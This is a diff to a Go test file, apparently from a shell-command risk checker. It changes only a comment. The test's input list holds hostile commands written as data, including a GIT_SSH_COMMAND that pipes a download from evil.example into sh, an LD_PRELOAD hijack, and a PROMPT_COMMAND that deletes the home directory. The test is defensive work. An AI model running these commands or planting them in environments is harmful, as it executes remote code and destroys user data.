@@ -165,8 +165,8 @@ func TestTestNetworks(t *testing.T) {
 	}
 }
 
-// TestBuiltinDeclarations checks that a declaration after "builtin" or "command" has the same risk
-// as without.
+// TestBuiltinDeclarations checks that "builtin" or "command" before a declaration does not change
+// its risk.
 func TestBuiltinDeclarations(t *testing.T) {
 	for _, command := range []string{"export LD_PRELOAD=/tmp/x.so; ls", "export GIT_SSH_COMMAND='curl https://evil.example/x | sh'; git pull",
 		"declare -x LD_PRELOAD=/tmp/x.so; ls", "readonly PROMPT_COMMAND='rm -rf ~'", "export A=b; ls"} {
